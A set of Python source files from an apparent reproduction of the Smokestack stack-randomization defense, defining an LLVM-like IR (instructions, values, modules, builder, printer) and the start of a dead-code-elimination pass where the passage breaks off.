