"""IR containers: basic blocks, functions and modules."""

from __future__ import annotations

from typing import Dict, Iterator, List, Optional, Sequence

from repro.errors import IRError
from repro.minic import types as ct
from repro.ir.instructions import Alloca, Instruction
from repro.ir.values import Argument, GlobalVariable


class BasicBlock:
    """A straight-line sequence of instructions ending in one terminator."""

    def __init__(self, label: str, function: Optional["Function"] = None):
        self.label = label
        self.function = function
        self.instructions: List[Instruction] = []

    def append(self, inst: Instruction) -> Instruction:
        if self.is_terminated():
            raise IRError(
                f"cannot append to terminated block '{self.label}' "
                f"in function '{self.function.name if self.function else '?'}'"
            )
        inst.block = self
        self.instructions.append(inst)
        return inst

    def terminator(self) -> Optional[Instruction]:
        if self.instructions and self.instructions[-1].is_terminator:
            return self.instructions[-1]
        return None

    def is_terminated(self) -> bool:
        return self.terminator() is not None

    def __repr__(self) -> str:
        return f"BasicBlock({self.label!r}, {len(self.instructions)} insts)"


class Function:
    """A function definition: parameters plus a list of basic blocks.

    ``metadata`` is a free-form dict used by passes; Smokestack stores the
    frame descriptor and instrumentation record here so later stages (the
    VM loader, the attack tooling, the reports) can inspect what was done.
    """

    def __init__(
        self,
        name: str,
        return_type: ct.CType,
        param_names: Sequence[str],
        param_types: Sequence[ct.CType],
    ):
        if len(param_names) != len(param_types):
            raise IRError("parameter name/type count mismatch")
        self.name = name
        self.return_type = return_type
        self.params: List[Argument] = [
            Argument(param_name, param_type, index)
            for index, (param_name, param_type) in enumerate(
                zip(param_names, param_types)
            )
        ]
        self.blocks: List[BasicBlock] = []
        self.metadata: Dict[str, object] = {}
        self._next_value_id = 0
        self._block_labels: Dict[str, int] = {}

    # -- construction ------------------------------------------------------------

    def new_block(self, label: str = "bb") -> BasicBlock:
        """Create a uniquely-labelled block and append it to the function."""
        count = self._block_labels.get(label, 0)
        self._block_labels[label] = count + 1
        unique = label if count == 0 else f"{label}.{count}"
        block = BasicBlock(unique, self)
        self.blocks.append(block)
        return block

    def next_value_name(self, hint: str = "t") -> str:
        name = f"{hint}{self._next_value_id}"
        self._next_value_id += 1
        return name

    @property
    def entry(self) -> BasicBlock:
        if not self.blocks:
            raise IRError(f"function '{self.name}' has no blocks")
        return self.blocks[0]

    # -- queries -----------------------------------------------------------------

    def instructions(self) -> Iterator[Instruction]:
        for block in self.blocks:
            yield from block.instructions

    def allocas(self) -> List[Alloca]:
        """All alloca instructions, in program order.

        This is the "discovering stack allocations" input (paper §III-D):
        everything Smokestack will permute lives here.
        """
        return [inst for inst in self.instructions() if isinstance(inst, Alloca)]

    def static_allocas(self) -> List[Alloca]:
        return [a for a in self.allocas() if a.is_static()]

    def dynamic_allocas(self) -> List[Alloca]:
        return [a for a in self.allocas() if not a.is_static()]

    def block_by_label(self, label: str) -> BasicBlock:
        for block in self.blocks:
            if block.label == label:
                return block
        raise IRError(f"function '{self.name}' has no block '{label}'")

    def __repr__(self) -> str:
        return f"Function({self.name!r}, {len(self.blocks)} blocks)"


class Module:
    """A translation unit's worth of IR: functions plus globals."""

    def __init__(self, name: str = "module"):
        self.name = name
        self.functions: Dict[str, Function] = {}
        self.globals: Dict[str, GlobalVariable] = {}
        self.metadata: Dict[str, object] = {}
        #: cache-invalidation token: in-place transforms (the optimizer,
        #: Smokestack instrumentation) call :meth:`bump_version` so any
        #: machinery keying caches on IR object identity — the VM's
        #: static-alloca layouts, the predecoded block cache — can detect
        #: that the module changed under it.
        self.version = 0

    def bump_version(self) -> int:
        """Mark the module as transformed in place; returns new version."""
        self.version += 1
        return self.version

    def add_function(self, function: Function) -> Function:
        if function.name in self.functions:
            raise IRError(f"duplicate function '{function.name}'")
        self.functions[function.name] = function
        return function

    def add_global(self, variable: GlobalVariable) -> GlobalVariable:
        if variable.name in self.globals:
            raise IRError(f"duplicate global '{variable.name}'")
        self.globals[variable.name] = variable
        return variable

    def get_function(self, name: str) -> Function:
        try:
            return self.functions[name]
        except KeyError:
            raise IRError(f"module has no function '{name}'") from None

    def get_global(self, name: str) -> GlobalVariable:
        try:
            return self.globals[name]
        except KeyError:
            raise IRError(f"module has no global '{name}'") from None

    def __repr__(self) -> str:
        return (
            f"Module({self.name!r}, {len(self.functions)} functions, "
            f"{len(self.globals)} globals)"
        )
