"""Textual printer for IR modules (LLVM-flavoured, human-oriented).

The format is for inspection, documentation and golden tests; it is not
meant to be re-parsed.
"""

from __future__ import annotations

from typing import List

from repro.ir.instructions import (
    Alloca,
    BinOp,
    Br,
    Call,
    Cast,
    Cmp,
    CondBr,
    ElemPtr,
    FieldPtr,
    Instruction,
    Load,
    Phi,
    Ret,
    Select,
    Store,
    Unreachable,
)
from repro.ir.module import Function, Module
from repro.ir.values import Value


def print_module(module: Module) -> str:
    """Render a whole module as text."""
    parts: List[str] = [f"; module {module.name}"]
    for variable in module.globals.values():
        qualifier = "constant" if variable.readonly else "global"
        size = variable.value_type.size()
        parts.append(
            f"@{variable.name} = {qualifier} {variable.value_type} "
            f"; {size} bytes, align {variable.align}"
        )
    for function in module.functions.values():
        parts.append("")
        parts.append(print_function(function))
    return "\n".join(parts) + "\n"


def print_function(function: Function) -> str:
    params = ", ".join(f"{p.ctype} %{p.name}" for p in function.params)
    lines = [f"define {function.return_type} @{function.name}({params}) {{"]
    for block in function.blocks:
        lines.append(f"{block.label}:")
        for inst in block.instructions:
            lines.append(f"  {format_instruction(inst)}")
    lines.append("}")
    return "\n".join(lines)


def _ref(value: Value) -> str:
    return value.ref()


def format_instruction(inst: Instruction) -> str:
    """One-line rendering of a single instruction."""
    if isinstance(inst, Alloca):
        size = "dynamic" if not inst.is_static() else f"{inst.static_size()} bytes"
        count = f", count {_ref(inst.count)}" if inst.count is not None else ""
        source = f" ; var '{inst.var_name}'" if inst.var_name else ""
        return (
            f"%{inst.name} = alloca {inst.allocated_type}{count}, "
            f"align {inst.align} ; {size}{source}"
        )
    if isinstance(inst, Load):
        return f"%{inst.name} = load {inst.ctype}, {_ref(inst.pointer)}"
    if isinstance(inst, Store):
        return f"store {inst.value.ctype} {_ref(inst.value)}, {_ref(inst.pointer)}"
    if isinstance(inst, ElemPtr):
        return (
            f"%{inst.name} = elemptr {inst.element_type}, "
            f"{_ref(inst.base)}, index {_ref(inst.index)}"
        )
    if isinstance(inst, FieldPtr):
        return (
            f"%{inst.name} = fieldptr {_ref(inst.base)}, "
            f"field {inst.field_index} (+{inst.byte_offset})"
        )
    if isinstance(inst, BinOp):
        return (
            f"%{inst.name} = {inst.op} {inst.ctype} "
            f"{_ref(inst.lhs)}, {_ref(inst.rhs)}"
        )
    if isinstance(inst, Cmp):
        return (
            f"%{inst.name} = cmp {inst.op} {inst.lhs.ctype} "
            f"{_ref(inst.lhs)}, {_ref(inst.rhs)}"
        )
    if isinstance(inst, Cast):
        return (
            f"%{inst.name} = {inst.kind} {inst.value.ctype} "
            f"{_ref(inst.value)} to {inst.ctype}"
        )
    if isinstance(inst, Phi):
        incomings = ", ".join(
            f"[{_ref(value)}, %{pred.label}]" for value, pred in inst.incomings
        )
        return f"%{inst.name} = phi {inst.ctype} {incomings}"
    if isinstance(inst, Select):
        cond, a, b = inst.operands
        return (
            f"%{inst.name} = select {_ref(cond)}, {_ref(a)}, {_ref(b)}"
        )
    if isinstance(inst, Call):
        args = ", ".join(_ref(a) for a in inst.args)
        prefix = f"%{inst.name} = " if inst.has_result() else ""
        return f"{prefix}call {inst.ctype} @{inst.callee_name()}({args})"
    if isinstance(inst, Br):
        return f"br label %{inst.target.label}"
    if isinstance(inst, CondBr):
        return (
            f"br {_ref(inst.cond)}, label %{inst.true_target.label}, "
            f"label %{inst.false_target.label}"
        )
    if isinstance(inst, Ret):
        if inst.value is None:
            return "ret void"
        return f"ret {inst.value.ctype} {_ref(inst.value)}"
    if isinstance(inst, Unreachable):
        return "unreachable"
    return f"<{type(inst).__name__}>"
