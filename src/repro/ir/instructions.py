"""IR instruction set.

The instruction set is a compact LLVM-flavoured core: stack allocation
(``alloca``), memory access (``load``/``store``), address computation
(``elemptr``/``fieldptr``, the reproduction's GetElementPtr), arithmetic,
comparisons, casts, control flow, calls and ``select``.

Smokestack's instrumentation pass (paper §IV-B) rewrites exactly this
vocabulary: it replaces per-variable ``alloca`` instructions with a single
total-frame ``alloca`` plus ``elemptr`` slices whose indices are loaded
from the P-BOX at runtime.
"""

from __future__ import annotations

from typing import List, Optional, Sequence, Union

from repro.errors import IRError
from repro.minic import types as ct
from repro.ir.values import Constant, Value

# Integer/float binary opcodes the VM implements.
BINARY_OPS = frozenset(
    {
        "add", "sub", "mul", "sdiv", "udiv", "srem", "urem",
        "and", "or", "xor", "shl", "lshr", "ashr",
        "fadd", "fsub", "fmul", "fdiv",
    }
)

# Comparison predicates.
COMPARE_OPS = frozenset(
    {
        "eq", "ne",
        "slt", "sle", "sgt", "sge",
        "ult", "ule", "ugt", "uge",
        "feq", "fne", "flt", "fle", "fgt", "fge",
    }
)

# Cast kinds.
CAST_KINDS = frozenset(
    {
        "trunc", "zext", "sext",
        "fptosi", "sitofp", "uitofp", "fptoui",
        "fpext", "fptrunc",
        "bitcast", "ptrtoint", "inttoptr",
    }
)


class Instruction(Value):
    """Base class for instructions.  The result (if any) is the Value."""

    __slots__ = ("operands", "block", "synthetic")

    #: Overridden by terminators.
    is_terminator = False

    def __init__(self, ctype: ct.CType, operands: Sequence[Value], name: str = ""):
        super().__init__(ctype, name)
        self.operands: List[Value] = list(operands)
        self.block = None  # set when appended to a BasicBlock
        #: True for instructions emitted by instrumentation passes; the
        #: cost model charges them at a discount (see repro.vm.costs).
        self.synthetic = False

    def opcode(self) -> str:
        return type(self).__name__.lower()

    def has_result(self) -> bool:
        return not self.ctype.is_void()

    def __repr__(self) -> str:
        return f"{type(self).__name__}({self.name or '<unnamed>'})"


class Alloca(Instruction):
    """Reserve stack storage in the current frame.

    ``allocated_type`` is the object type; ``count`` (a Value) multiplies
    it for variable-length allocations — ``count is None`` means a static
    single object.  ``var_name`` records the Mini-C variable the slot
    backs, which the attack tooling and Smokestack's reports use to talk
    about "the buffer" or "the loop counter" by name.
    """

    __slots__ = ("allocated_type", "align", "var_name")

    def __init__(
        self,
        allocated_type: ct.CType,
        count: Optional[Value] = None,
        align: Optional[int] = None,
        var_name: str = "",
        name: str = "",
    ):
        if count is None and not allocated_type.is_complete():
            raise IRError("static alloca requires a complete type")
        operands = [count] if count is not None else []
        super().__init__(ct.PointerType(allocated_type), operands, name)
        self.allocated_type = allocated_type
        if align is None:
            base = allocated_type if allocated_type.is_complete() else ct.CHAR
            align = max(1, base.alignment())
        self.align = align
        self.var_name = var_name

    @property
    def count(self) -> Optional[Value]:
        """The dynamic element count, if any.

        Lives in ``operands`` (not a cached attribute) so optimizer
        passes that rewrite operands in place — constant folding a VLA
        length, say — are automatically reflected here.
        """
        return self.operands[0] if self.operands else None

    def is_static(self) -> bool:
        return self.count is None

    def static_size(self) -> int:
        if not self.is_static():
            raise IRError("dynamic alloca has no static size")
        return self.allocated_type.size()


class Load(Instruction):
    """Read a value of the pointee type from a pointer."""

    __slots__ = ()

    def __init__(self, pointer: Value, name: str = ""):
        if not pointer.ctype.is_pointer():
            raise IRError(f"load requires a pointer operand, got {pointer.ctype}")
        pointee = pointer.ctype.pointee
        if not pointee.is_scalar():
            raise IRError(f"load of non-scalar type {pointee}")
        super().__init__(pointee, [pointer], name)

    @property
    def pointer(self) -> Value:
        return self.operands[0]


class Store(Instruction):
    """Write a scalar value through a pointer."""

    __slots__ = ()

    def __init__(self, value: Value, pointer: Value):
        if not pointer.ctype.is_pointer():
            raise IRError(f"store requires a pointer target, got {pointer.ctype}")
        super().__init__(ct.VOID, [value, pointer])

    @property
    def value(self) -> Value:
        return self.operands[0]

    @property
    def pointer(self) -> Value:
        return self.operands[1]


class ElemPtr(Instruction):
    """Address of ``base + index * sizeof(element)``.

    ``base`` may point at the element type itself (pointer arithmetic) or
    at an array of it (indexing); the result always points at the element
    type.  This is the reproduction's GetElementPtr for sequential data —
    and the instruction Smokestack emits to slice the unified stack frame.
    """

    __slots__ = ("element_type",)

    def __init__(self, base: Value, index: Value, name: str = ""):
        if not base.ctype.is_pointer():
            raise IRError(f"elemptr requires a pointer base, got {base.ctype}")
        pointee = base.ctype.pointee
        element = pointee.element if pointee.is_array() else pointee
        if not element.is_complete():
            raise IRError(f"elemptr on incomplete element type {element}")
        if not index.ctype.is_integer():
            raise IRError("elemptr index must be an integer")
        super().__init__(ct.PointerType(element), [base, index], name)
        self.element_type = element

    @property
    def base(self) -> Value:
        return self.operands[0]

    @property
    def index(self) -> Value:
        return self.operands[1]


class FieldPtr(Instruction):
    """Address of field ``field_index`` of a struct pointed to by ``base``."""

    __slots__ = ("field_index", "byte_offset")

    def __init__(self, base: Value, field_index: int, name: str = ""):
        if not (base.ctype.is_pointer() and base.ctype.pointee.is_struct()):
            raise IRError(f"fieldptr requires a struct pointer, got {base.ctype}")
        struct_type = base.ctype.pointee
        field_type = struct_type.field_type(field_index)
        super().__init__(ct.PointerType(field_type), [base], name)
        self.field_index = field_index
        self.byte_offset = struct_type.field_offset(field_index)

    @property
    def base(self) -> Value:
        return self.operands[0]


class BinOp(Instruction):
    """Two-operand arithmetic/bitwise operation; operand types must match."""

    __slots__ = ("op",)

    def __init__(self, op: str, lhs: Value, rhs: Value, name: str = ""):
        if op not in BINARY_OPS:
            raise IRError(f"unknown binary opcode '{op}'")
        if lhs.ctype != rhs.ctype:
            raise IRError(
                f"binop operand types differ: {lhs.ctype} vs {rhs.ctype}"
            )
        if op.startswith("f"):
            if not lhs.ctype.is_float():
                raise IRError(f"float opcode '{op}' on {lhs.ctype}")
        else:
            if not lhs.ctype.is_integer():
                raise IRError(f"integer opcode '{op}' on {lhs.ctype}")
        super().__init__(lhs.ctype, [lhs, rhs], name)
        self.op = op

    @property
    def lhs(self) -> Value:
        return self.operands[0]

    @property
    def rhs(self) -> Value:
        return self.operands[1]


class Cmp(Instruction):
    """Comparison producing 0 or 1 as an ``int``."""

    __slots__ = ("op",)

    def __init__(self, op: str, lhs: Value, rhs: Value, name: str = ""):
        if op not in COMPARE_OPS:
            raise IRError(f"unknown comparison '{op}'")
        if lhs.ctype != rhs.ctype and not (
            lhs.ctype.is_pointer() and rhs.ctype.is_pointer()
        ):
            raise IRError(
                f"cmp operand types differ: {lhs.ctype} vs {rhs.ctype}"
            )
        super().__init__(ct.INT, [lhs, rhs], name)
        self.op = op

    @property
    def lhs(self) -> Value:
        return self.operands[0]

    @property
    def rhs(self) -> Value:
        return self.operands[1]


class Cast(Instruction):
    """Type conversion; ``kind`` is one of :data:`CAST_KINDS`."""

    __slots__ = ("kind",)

    def __init__(self, kind: str, value: Value, to_type: ct.CType, name: str = ""):
        if kind not in CAST_KINDS:
            raise IRError(f"unknown cast kind '{kind}'")
        super().__init__(to_type, [value], name)
        self.kind = kind

    @property
    def value(self) -> Value:
        return self.operands[0]


class Select(Instruction):
    """``cond ? a : b`` without control flow; cond is any integer."""

    __slots__ = ()

    def __init__(self, cond: Value, a: Value, b: Value, name: str = ""):
        if a.ctype != b.ctype:
            raise IRError(f"select arm types differ: {a.ctype} vs {b.ctype}")
        super().__init__(a.ctype, [cond, a, b], name)

    @property
    def cond(self) -> Value:
        return self.operands[0]


class Call(Instruction):
    """Call a module function or a runtime builtin.

    ``callee`` is either a :class:`repro.ir.module.Function` or the name of
    a builtin (str).  Builtins are implemented natively by the VM.
    """

    __slots__ = ("callee",)

    def __init__(
        self,
        callee,
        args: Sequence[Value],
        return_type: ct.CType,
        name: str = "",
    ):
        super().__init__(return_type, list(args), name)
        self.callee = callee

    def callee_name(self) -> str:
        return self.callee if isinstance(self.callee, str) else self.callee.name

    @property
    def args(self) -> List[Value]:
        return self.operands


class Phi(Instruction):
    """SSA phi node: selects a value by the predecessor block taken.

    Produced only by the optimizer's mem2reg pass (the front-end lowers
    through memory, clang-at--O0 style).  Phis must sit at the start of
    their block; the interpreter evaluates all of a block's phis as one
    parallel copy at branch time.
    """

    __slots__ = ("incomings",)

    def __init__(self, ctype: ct.CType, name: str = ""):
        super().__init__(ctype, [], name)
        #: list of (value, predecessor-block) pairs
        self.incomings: List[tuple] = []

    def add_incoming(self, value: Value, block) -> None:
        if value.ctype != self.ctype:
            raise IRError(
                f"phi incoming type {value.ctype} does not match {self.ctype}"
            )
        self.incomings.append((value, block))
        self.operands.append(value)

    def incoming_for(self, block) -> Value:
        for value, predecessor in self.incomings:
            if predecessor is block:
                return value
        raise IRError(f"phi has no incoming for block '{block.label}'")

    def replace_incoming_value(self, index: int, value: Value) -> None:
        # operands[i] mirrors incomings[i] (both filled by add_incoming).
        _, block = self.incomings[index]
        self.incomings[index] = (value, block)
        self.operands[index] = value


class Br(Instruction):
    """Unconditional branch."""

    __slots__ = ("target",)

    is_terminator = True

    def __init__(self, target):
        super().__init__(ct.VOID, [])
        self.target = target


class CondBr(Instruction):
    """Conditional branch: nonzero condition goes to ``true_target``."""

    __slots__ = ("true_target", "false_target")

    is_terminator = True

    def __init__(self, cond: Value, true_target, false_target):
        if not (cond.ctype.is_integer() or cond.ctype.is_pointer()):
            raise IRError(f"branch condition must be integer/pointer, got {cond.ctype}")
        super().__init__(ct.VOID, [cond])
        self.true_target = true_target
        self.false_target = false_target

    @property
    def cond(self) -> Value:
        return self.operands[0]


class Ret(Instruction):
    """Return from the current function."""

    __slots__ = ()

    is_terminator = True

    def __init__(self, value: Optional[Value] = None):
        operands = [value] if value is not None else []
        super().__init__(ct.VOID, operands)

    @property
    def value(self) -> Optional[Value]:
        return self.operands[0] if self.operands else None


class Unreachable(Instruction):
    """Executing this is a bug; the VM raises immediately."""

    __slots__ = ()

    is_terminator = True

    def __init__(self):
        super().__init__(ct.VOID, [])
