"""Typed IR: the LLVM-analogue the Smokestack passes transform.

Public surface:

* value classes (:class:`Constant`, :class:`Argument`,
  :class:`GlobalVariable`),
* the instruction set (``Alloca``, ``Load``, ``Store``, ``ElemPtr``, ...),
* containers (:class:`Module`, :class:`Function`, :class:`BasicBlock`),
* :class:`IRBuilder` for emission,
* :func:`verify_module` / :func:`verify_function`,
* :func:`print_module` / :func:`print_function` for textual dumps.
"""

from repro.ir.builder import IRBuilder
from repro.ir.instructions import (
    BINARY_OPS,
    CAST_KINDS,
    COMPARE_OPS,
    Alloca,
    BinOp,
    Br,
    Call,
    Cast,
    Cmp,
    CondBr,
    ElemPtr,
    FieldPtr,
    Instruction,
    Load,
    Phi,
    Ret,
    Select,
    Store,
    Unreachable,
)
from repro.ir.module import BasicBlock, Function, Module
from repro.ir.printer import format_instruction, print_function, print_module
from repro.ir.values import Argument, Constant, GlobalVariable, Value, const_int, null_ptr
from repro.ir.verifier import verify_function, verify_module

__all__ = [
    "BINARY_OPS",
    "CAST_KINDS",
    "COMPARE_OPS",
    "Alloca",
    "Argument",
    "BasicBlock",
    "BinOp",
    "Br",
    "Call",
    "Cast",
    "Cmp",
    "CondBr",
    "Constant",
    "ElemPtr",
    "FieldPtr",
    "Function",
    "GlobalVariable",
    "IRBuilder",
    "Instruction",
    "Load",
    "Module",
    "Phi",
    "Ret",
    "Select",
    "Store",
    "Unreachable",
    "Value",
    "const_int",
    "format_instruction",
    "null_ptr",
    "print_function",
    "print_module",
    "verify_function",
    "verify_module",
]
