"""IR value classes.

The IR reuses the Mini-C type objects (`repro.minic.types`) as its type
system: they already carry the size/alignment data layout that both the
virtual machine and Smokestack's permutation engine need, and sharing them
keeps the whole pipeline on a single source of truth for layout.

A :class:`Value` is anything an instruction can take as an operand:
constants, function arguments, globals (whose value is their address), and
instructions themselves (their result).
"""

from __future__ import annotations

from typing import Optional, Union

from repro.errors import IRError
from repro.minic import types as ct


class Value:
    """Base class of everything usable as an instruction operand."""

    __slots__ = ("ctype", "name")

    def __init__(self, ctype: ct.CType, name: str = ""):
        self.ctype = ctype
        self.name = name

    def ref(self) -> str:
        """Short printable reference used by the textual printer."""
        return f"%{self.name}" if self.name else "%?"


class Constant(Value):
    """A compile-time constant: integer, float, or null pointer.

    Integer constants are stored as Python ints and truncated to the type's
    width at VM boundaries; pointer-typed constants hold the raw address
    value (0 for null).
    """

    __slots__ = ("value",)

    def __init__(self, ctype: ct.CType, value: Union[int, float]):
        super().__init__(ctype, "")
        if ctype.is_integer() or ctype.is_pointer():
            if not isinstance(value, int):
                raise IRError(f"integer constant requires an int, got {value!r}")
        elif ctype.is_float():
            value = float(value)
        else:
            raise IRError(f"cannot build a constant of type {ctype}")
        self.value = value

    def ref(self) -> str:
        return str(self.value)

    def __repr__(self) -> str:
        return f"Constant({self.ctype}, {self.value})"


def const_int(value: int, ctype: ct.CType = ct.LONG) -> Constant:
    """Shorthand for an integer constant (defaults to ``long``)."""
    return Constant(ctype, value)


def null_ptr(pointee: ct.CType = ct.VOID) -> Constant:
    """A null pointer constant."""
    return Constant(ct.PointerType(pointee), 0)


class Argument(Value):
    """A formal parameter of a function."""

    __slots__ = ("index",)

    def __init__(self, name: str, ctype: ct.CType, index: int):
        super().__init__(ctype, name)
        self.index = index

    def __repr__(self) -> str:
        return f"Argument({self.name!r}: {self.ctype})"


class GlobalVariable(Value):
    """A module-level variable.

    As a :class:`Value` it denotes the *address* of the storage, so its
    ``ctype`` is a pointer to ``value_type``.  ``initializer`` is the raw
    byte image (zero-filled if None).  ``readonly`` globals are loaded into
    the VM's read-only data segment — this is where Smokestack's P-BOX
    lives, matching the paper's "read-only data section" placement (§IV-B).
    """

    __slots__ = ("value_type", "initializer", "readonly", "align")

    def __init__(
        self,
        name: str,
        value_type: ct.CType,
        initializer: Optional[bytes] = None,
        readonly: bool = False,
        align: Optional[int] = None,
    ):
        super().__init__(ct.PointerType(value_type), name)
        if not value_type.is_complete():
            raise IRError(f"global '{name}' must have a complete type")
        size = value_type.size()
        if initializer is not None and len(initializer) > size:
            raise IRError(
                f"initializer of global '{name}' is {len(initializer)} bytes "
                f"but the type is only {size}"
            )
        self.value_type = value_type
        self.initializer = initializer
        self.readonly = readonly
        self.align = align if align is not None else max(1, value_type.alignment())

    def byte_image(self) -> bytes:
        """The full zero-padded initial byte image of this global."""
        size = self.value_type.size()
        data = self.initializer or b""
        return data + b"\x00" * (size - len(data))

    def ref(self) -> str:
        return f"@{self.name}"

    def __repr__(self) -> str:
        return f"GlobalVariable({self.name!r}: {self.value_type})"
