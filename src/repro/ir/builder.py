"""IRBuilder: convenience layer for emitting instructions.

The builder holds an insertion point (a basic block) and provides one
method per instruction, naming results automatically.  It also implements
the type-directed cast selection (`convert`) that the lowering stage and
the Smokestack instrumentation pass both rely on.
"""

from __future__ import annotations

from typing import Optional, Sequence, Union

from repro.errors import IRError
from repro.minic import types as ct
from repro.ir.instructions import (
    Alloca,
    BinOp,
    Br,
    Call,
    Cast,
    Cmp,
    CondBr,
    ElemPtr,
    FieldPtr,
    Instruction,
    Load,
    Ret,
    Select,
    Store,
    Unreachable,
)
from repro.ir.module import BasicBlock, Function
from repro.ir.values import Constant, Value


class IRBuilder:
    """Emits instructions at the end of a current block."""

    def __init__(self, function: Function, block: Optional[BasicBlock] = None):
        self.function = function
        self.block = block or (function.blocks[0] if function.blocks else None)

    def position_at_end(self, block: BasicBlock) -> None:
        self.block = block

    def _emit(self, inst: Instruction, hint: str = "t") -> Instruction:
        if self.block is None:
            raise IRError("builder has no insertion block")
        if inst.has_result() and not inst.name:
            inst.name = self.function.next_value_name(hint)
        self.block.append(inst)
        return inst

    # -- memory ------------------------------------------------------------------

    def alloca(
        self,
        allocated_type: ct.CType,
        count: Optional[Value] = None,
        align: Optional[int] = None,
        var_name: str = "",
    ) -> Alloca:
        return self._emit(
            Alloca(allocated_type, count, align, var_name), hint=var_name or "a"
        )

    def load(self, pointer: Value) -> Load:
        return self._emit(Load(pointer), hint="v")

    def store(self, value: Value, pointer: Value) -> Store:
        pointee = pointer.ctype.pointee
        if value.ctype != pointee:
            raise IRError(
                f"store type mismatch: storing {value.ctype} into {pointer.ctype}"
            )
        return self._emit(Store(value, pointer))

    def elem_ptr(self, base: Value, index: Value) -> ElemPtr:
        if not index.ctype.is_integer():
            raise IRError("elem_ptr index must be integer")
        return self._emit(ElemPtr(base, index), hint="p")

    def field_ptr(self, base: Value, field_index: int) -> FieldPtr:
        return self._emit(FieldPtr(base, field_index), hint="f")

    # -- arithmetic ----------------------------------------------------------------

    def binop(self, op: str, lhs: Value, rhs: Value) -> BinOp:
        return self._emit(BinOp(op, lhs, rhs), hint="b")

    def add(self, lhs: Value, rhs: Value) -> Value:
        return self.binop("fadd" if lhs.ctype.is_float() else "add", lhs, rhs)

    def sub(self, lhs: Value, rhs: Value) -> Value:
        return self.binop("fsub" if lhs.ctype.is_float() else "sub", lhs, rhs)

    def mul(self, lhs: Value, rhs: Value) -> Value:
        return self.binop("fmul" if lhs.ctype.is_float() else "mul", lhs, rhs)

    def div(self, lhs: Value, rhs: Value) -> Value:
        if lhs.ctype.is_float():
            return self.binop("fdiv", lhs, rhs)
        signed = getattr(lhs.ctype, "signed", True)
        return self.binop("sdiv" if signed else "udiv", lhs, rhs)

    def rem(self, lhs: Value, rhs: Value) -> Value:
        signed = getattr(lhs.ctype, "signed", True)
        return self.binop("srem" if signed else "urem", lhs, rhs)

    def shl(self, lhs: Value, rhs: Value) -> Value:
        return self.binop("shl", lhs, rhs)

    def shr(self, lhs: Value, rhs: Value) -> Value:
        signed = getattr(lhs.ctype, "signed", True)
        return self.binop("ashr" if signed else "lshr", lhs, rhs)

    def and_(self, lhs: Value, rhs: Value) -> Value:
        return self.binop("and", lhs, rhs)

    def or_(self, lhs: Value, rhs: Value) -> Value:
        return self.binop("or", lhs, rhs)

    def xor(self, lhs: Value, rhs: Value) -> Value:
        return self.binop("xor", lhs, rhs)

    # -- comparisons -----------------------------------------------------------------

    def cmp(self, op: str, lhs: Value, rhs: Value) -> Cmp:
        return self._emit(Cmp(op, lhs, rhs), hint="c")

    def icmp_from_c(self, c_op: str, lhs: Value, rhs: Value) -> Cmp:
        """Build a comparison from a C operator, choosing signedness."""
        if lhs.ctype.is_float():
            mapping = {
                "==": "feq", "!=": "fne",
                "<": "flt", "<=": "fle", ">": "fgt", ">=": "fge",
            }
            return self.cmp(mapping[c_op], lhs, rhs)
        if c_op == "==":
            return self.cmp("eq", lhs, rhs)
        if c_op == "!=":
            return self.cmp("ne", lhs, rhs)
        signed = getattr(lhs.ctype, "signed", False) if lhs.ctype.is_integer() else False
        prefix = "s" if signed else "u"
        mapping = {"<": "lt", "<=": "le", ">": "gt", ">=": "ge"}
        return self.cmp(prefix + mapping[c_op], lhs, rhs)

    # -- conversions -------------------------------------------------------------------

    def cast(self, kind: str, value: Value, to_type: ct.CType) -> Cast:
        return self._emit(Cast(kind, value, to_type), hint="x")

    def convert(self, value: Value, to_type: ct.CType) -> Value:
        """Convert ``value`` to ``to_type`` choosing the right cast kind.

        No-ops (identical type) return the value unchanged.  Covers all the
        conversions Mini-C's sema can request: integer resize, int<->float,
        pointer bitcasts and int<->pointer.
        """
        src = value.ctype
        if src == to_type:
            return value
        if src.is_integer() and to_type.is_integer():
            if src.size() > to_type.size():
                return self.cast("trunc", value, to_type)
            if src.size() < to_type.size():
                signed = getattr(src, "signed", True)
                return self.cast("sext" if signed else "zext", value, to_type)
            return self.cast("bitcast", value, to_type)
        if src.is_integer() and to_type.is_float():
            signed = getattr(src, "signed", True)
            return self.cast("sitofp" if signed else "uitofp", value, to_type)
        if src.is_float() and to_type.is_integer():
            signed = getattr(to_type, "signed", True)
            return self.cast("fptosi" if signed else "fptoui", value, to_type)
        if src.is_float() and to_type.is_float():
            if src.size() < to_type.size():
                return self.cast("fpext", value, to_type)
            return self.cast("fptrunc", value, to_type)
        if src.is_pointer() and to_type.is_pointer():
            return self.cast("bitcast", value, to_type)
        if src.is_pointer() and to_type.is_integer():
            return self.cast("ptrtoint", value, to_type)
        if src.is_integer() and to_type.is_pointer():
            return self.cast("inttoptr", value, to_type)
        raise IRError(f"no conversion from {src} to {to_type}")

    # -- misc --------------------------------------------------------------------------

    def select(self, cond: Value, a: Value, b: Value) -> Select:
        return self._emit(Select(cond, a, b), hint="s")

    def call(
        self,
        callee,
        args: Sequence[Value],
        return_type: Optional[ct.CType] = None,
    ) -> Call:
        if return_type is None:
            if isinstance(callee, str):
                raise IRError("builtin calls must state their return type")
            return_type = callee.return_type
        return self._emit(Call(callee, args, return_type), hint="r")

    # -- terminators ---------------------------------------------------------------------

    def br(self, target: BasicBlock) -> Br:
        return self._emit(Br(target))

    def cond_br(self, cond: Value, true_target: BasicBlock, false_target: BasicBlock) -> CondBr:
        return self._emit(CondBr(cond, true_target, false_target))

    def ret(self, value: Optional[Value] = None) -> Ret:
        if value is None:
            if not self.function.return_type.is_void():
                raise IRError(
                    f"function '{self.function.name}' must return "
                    f"{self.function.return_type}"
                )
        else:
            if value.ctype != self.function.return_type:
                raise IRError(
                    f"return type mismatch in '{self.function.name}': "
                    f"{value.ctype} vs {self.function.return_type}"
                )
        return self._emit(Ret(value))

    def unreachable(self) -> Unreachable:
        return self._emit(Unreachable())

    # -- constants (conveniences) -----------------------------------------------------------

    @staticmethod
    def const(value: Union[int, float], ctype: ct.CType) -> Constant:
        return Constant(ctype, value)
