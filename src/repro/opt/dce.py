"""Dead code elimination: drop pure instructions whose results are unused,
and blocks that cannot be reached.
"""

from __future__ import annotations

from typing import Set

from repro.ir.instructions import (
    Alloca,
    BinOp,
    Cast,
    Cmp,
    ElemPtr,
    FieldPtr,
    Instruction,
    Load,
    Phi,
    Select,
)
from repro.ir.module import Function, Module
from repro.opt.cfg import reachable_blocks

#: Instruction classes with no side effects: safe to delete when unused.
#: Loads are included (the VM has no volatile memory), allocas are NOT —
#: removing an unused alloca changes frame layout, which is meaningful to
